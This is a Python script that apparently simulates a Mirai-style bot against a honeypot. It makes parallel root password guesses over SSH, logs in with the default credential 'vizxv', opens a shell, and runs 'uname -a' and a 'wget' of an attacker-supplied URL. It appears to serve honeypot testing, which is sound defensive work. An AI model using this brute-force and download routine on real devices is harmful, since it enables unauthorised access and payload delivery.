"""A bot against the honeypot, as Mirai-family bots do it: parallel guesses, then the
factory password, then its commands on the same connection."""
import socket, sys, threading, time, paramiko

host, port, url = sys.argv[1], int(sys.argv[2]), sys.argv[3]
t0 = time.time()

def transport():
    sock = socket.create_connection((host, port), timeout=5)
    t = paramiko.Transport(sock)
    t.start_client(timeout=5)
    return t

def guess(pw):
    try:
        t = transport()
        try:
            t.auth_password("root", pw)
        except paramiko.AuthenticationException:
            pass
        t.close()
    except Exception as e:
        print("guess", pw, "error", e, flush=True)

threads = [threading.Thread(target=guess, args=(pw,)) for pw in ["root", "123456", "admin"]]
for th in threads:
    th.start()
time.sleep(0.05)
t = transport()
t.auth_password("root", "vizxv")
print("logged in", round(time.time() - t0, 3), flush=True)
ch = t.open_session(timeout=5)
ch.get_pty()
ch.invoke_shell()
ch.settimeout(0.2)

def until(marker, within=5.0):
    out = b""
    end = time.time() + within
    while time.time() < end and marker not in out:
        try:
            d = ch.recv(4096)
            if not d:
                break
            out += d
        except socket.timeout:
            pass
    return out.decode(errors="replace")

until(b"# ")
for c in ["uname -a", f"wget {url}"]:
    ch.send(c + "\n")
    print("cmd", c, "->", until(b"# ").strip().replace("\r", "")[:300], round(time.time() - t0, 3), flush=True)
ch.send("exit\n")
t.close()
for th in threads:
    th.join()
